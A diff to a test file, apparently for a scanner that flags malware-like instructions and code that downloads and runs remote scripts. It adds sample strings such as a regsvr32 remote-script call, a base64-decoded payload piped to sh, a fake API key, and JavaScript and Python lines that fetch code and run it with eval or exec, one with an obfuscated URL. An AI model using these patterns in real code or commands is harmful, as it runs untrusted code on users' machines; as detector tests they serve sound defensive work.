@@ -137,6 +137,9 @@ describe('instructions that look like those of malware are told of', () => {
     'Remove an orphaned OUTLOOK.EXE before you start it again; get the update first.',
     '| `password` | Password to protect the archive, as a `SecureString` |',
     'A word.\n\n\u200B\n\nAnother.',
+    '| regsvr32.exe | `/s /u /i:http://` | a remote script |',
+    'An attack may look so: `echo "<base64>" | base64 -d | sh`.',
+    'The model said: API key sk-proj-abc123secretkey456xyz.',
     'Requires Docker. Install it with your package manager.',
     'Run `brew install foo`, then `xattr -d com.apple.quarantine "$(brew --prefix)/bin/foo"`.',
     'Download the report and open it in the terminal.',
@@ -285,7 +288,7 @@ describe('what is asked is told in every language, and not by the words of one s
     [
       'a.py',
       'import requests\ndef load(): return requests.get(u).text\ncode = load()\nexec(code)',
-      'error python-untrusted-code:4',
+      'warning python-fetched-code:4',
     ],
     [
       'a.py',
@@ -307,7 +310,11 @@ describe('what is asked is told in every language, and not by the words of one s
       'fetch("https://a.example.org/x").then((r) => r.text()).then((t) => new Function(t)())',
       'warning javascript-fetched-code:1',
     ],
-    ['a.js', 'fetch(u).then((r) => r.text()).then(eval)', 'error javascript-untrusted-code:1'],
+    [
+      'a.js',
+      'fetch(atob("aHR0cDovL2E=")).then((r) => r.text()).then(eval)',
+      'error javascript-untrusted-code:1',
+    ],
     [
       'a.js',
       'require("https").get("http://203.0.113.7/x", (res) => { res.on("end", () => require("vm").runInThisContext(s)) })',
